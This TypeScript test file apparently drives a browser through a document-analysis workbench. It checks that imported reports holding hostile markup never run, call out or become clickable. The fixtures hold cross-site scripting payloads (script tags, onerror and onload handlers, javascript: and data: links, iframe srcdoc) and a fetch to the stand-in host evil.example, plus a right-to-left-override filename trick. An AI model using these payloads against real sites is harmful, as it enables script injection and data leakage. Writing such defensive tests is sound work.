import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { missingChromium } from './open-chromium.ts';
import { type OpenWorkbench, openWorkbench, settle, visit } from './open-workbench.ts';

const missing = missingChromium();
if (missing !== '') console.warn(`Hostile reports are not tried. ${missing}`);

/** What a script of a report would do if it ran: leave a mark, ask a question, tell somebody. */
const script = "top.ran=true;window.ran=true;alert('ran');fetch('https://evil.example/ran')";
const markup = [
  `<script>${script}</script>`,
  `<img src="https://evil.example/x.png" onerror="${script}">`,
  `<svg onload="${script}"><script>${script}</script><a xlink:href="javascript:${script}">here</a></svg>`,
  `<a href="javascript:${script}">here</a>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<details open ontoggle="${script}">more</details>`,
].join(' ');
const met = 'The foreign ministers of Norway and Brazil met in Oslo on 2 May 2023';
const turned = '\u202Egnp.exe\u202C';

const reports: Record<string, string> = {
  'page.html': `<!doctype html><html><head><title>Talks ${turned} ${'very '.repeat(4000)}long</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/away">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<meta property="og:site_name" content="<img src=x onerror=${script}>">
<style>@import "https://evil.example/y.css"; body { background: url(https://evil.example/z.png) }</style></head>
<body onload="${script}"><article><h1>Talks ${turned} in Oslo</h1><p>OSLO, 3 May 2023</p>
<p>${met}. ${markup}</p><p>Norway and Brazil signed an agreement on fisheries.</p>
<form action="https://evil.example/send"><button autofocus onfocus="${script}">Send</button></form></article></body></html>`,
  'text.txt': `Talks ${markup} ${turned}\n\nOSLO, 3 May 2023\n\n${met} ${turned} and ${markup} they agreed on fisheries.\n\n“${markup}” was not signed, the minister of Norway, Ann Example, said on Tuesday.\n`,
  'links.md': `---
title: "<script>ran=true</script> <img src=x onerror=ran=true> ${'very '.repeat(4000)}long${'g'.repeat(500)}"
---

# [Talks](javascript:${script}) in Oslo\n\n3 May 2023\n\n${met}. Norway [denied](javascript:${script}) that it had [threatened](data:text/html,${markup}) Brazil. ${markup}\n`,
};

interface Row {
  id: string;
}

describe.skipIf(missing !== '')('reports that would run', () => {
  const folder = mkdtempSync(join(tmpdir(), 'entente-hostile-'));
  let workbench: OpenWorkbench;
  let page: Page;
  const [dialogs, asked]: [string[], string[]] = [[], []];

  beforeAll(async () => {
    for (const [name, text] of Object.entries(reports)) writeFileSync(join(folder, name), text);
    workbench = await openWorkbench(folder);
    page = await workbench.newPage();
    const { origin } = workbench.bench;
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    // What the policy stops never gets this far.
    await page.context().route(
      (url) => url.origin !== origin,
      (route) => {
        asked.push(route.request().url());
        return route.abort();
      },
    );
  });
  afterAll(async () => {
    await workbench?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Nothing of a report has run, been asked for, or can be clicked into running. */
  async function expectQuiet(where: string): Promise<void> {
    const state = await page.evaluate(() => ({
      ran: 'ran' in window,
      links: [...document.querySelectorAll('a[href], area[href], form[action]')]
        .map((one) => one.getAttribute('href') ?? one.getAttribute('action') ?? '')
        .filter((address) => !/^(\/|#|https?:)/.test(address)),
      scripts: document.querySelectorAll('main script, main iframe[srcdoc], main svg[onload], main [onerror]')
        .length,
      heading: document.querySelector('main h1')?.textContent ?? '',
      isTooWide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    }));
    expect(state, where).toMatchObject({ ran: false, links: [], scripts: 0, isTooWide: false });
    expect(state.heading, where).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect({ dialogs, asked }, where).toEqual({ dialogs: [], asked: [] });
  }

  test('run on no page that shows them', async () => {
    const { ask, origin } = workbench.bench;
    const [documents, events] = [await ask<Row[]>('/api/documents'), await ask<Row[]>('/api/timeline')];
    expect(documents).toHaveLength(3);
    expect(events.length).toBeGreaterThan(0);
    const addresses = [
      '/',
      '/search?q=Norway',
      `/search?q=${encodeURIComponent(markup)}`,
      '/agreements',
      `/entry/${encodeURIComponent('<img src=x onerror=window.ran=true>')}`,
      ...events.map(({ id }) => `/entry/${id}`),
      ...documents.map(({ id }) => `/report/${id}?layers=mentions,times,events,claims,figures`),
    ];
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 844 });
      for (const address of width === 1280 ? addresses : addresses.slice(-3)) {
        await page.goto(`${origin}${address}`);
        await page.waitForSelector('main :is(h1, .problem)');
        if ((await page.locator('main h1').count()) > 0) await settle(page);
        await expectQuiet(`${address} at ${width}`);
      }
    }
  }, 120_000);

  test('are shown as the text they are', async () => {
    const { ask, origin } = workbench.bench;
    const found = await ask<(Row & { title: string | null })[]>('/api/documents');
    const plain = found.find(({ title }) => title === null)!;
    await visit(page, `${origin}/report/${plain.id}`);
    expect(await page.locator('article').textContent()).toContain(`<script>${script}</script>`);
    expect(await page.locator('article').textContent()).not.toContain('\u202E');
    await expectQuiet('the report of plain text');
    const titled = found.find(({ title }) => title?.includes('<script>'))!;
    await visit(page, `${origin}/report/${titled.id}`);
    expect(await page.locator('h1').textContent()).toContain('<script>ran=true</script> <img src=x');
    await expectQuiet('the report with a title');
  });

  test('stand in a frame in which nothing runs', async () => {
    const { ask, get, origin } = workbench.bench;
    const found = await ask<Row[]>('/api/documents');
    const withOriginal = [];
    for (const { id } of found) {
      if ((await ask<{ hasOriginal: boolean }>(`/api/report?id=${id}`)).hasOriginal) withOriginal.push(id);
    }
    expect(withOriginal).toHaveLength(1);
    const answer = await get(`/api/original?id=${withOriginal[0]}`);
    expect(await answer.text()).toContain('<script>');
    const policy = answer.headers.get('content-security-policy')!;
    expect(policy).toMatch(/default-src 'none'.*;\s*sandbox;/);
    expect(policy).not.toContain('allow-');
    await visit(page, `${origin}/report/${withOriginal[0]}?beside=original`);
    const frame = page.frameLocator('iframe');
    await frame.getByText('signed an agreement').waitFor();
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('');
    await expectQuiet('the original page');
    // Opened by itself it is no more dangerous.
    await page.goto(`${origin}/api/original?id=${withOriginal[0]}`, { waitUntil: 'commit' });
    await page.getByText('signed an agreement').waitFor();
    expect({ dialogs, asked }).toEqual({ dialogs: [], asked: [] });
  });

  test('may have any name', async () => {
    await visit(page, `${workbench.bench.origin}/import`);
    const name = `<img src=x onerror="window.ran=true">${turned}.txt`;
    const report = 'Peru and Chile held talks in Lima on 4 June 2023.';
    await page
      .locator('input[type=file]')
      .first()
      .setInputFiles([
        { name, mimeType: 'text/plain', buffer: Buffer.from(report) },
        { name: `${name}.bmp`, mimeType: 'image/bmp', buffer: Buffer.from('?') },
      ]);
    await page.getByText('Done: 1 of 2 read, 1 could not be read.').waitFor();
    expect(await page.locator('tbody th').first().textContent()).toContain('<img src=x');
    await expectQuiet('the import');
  });
});
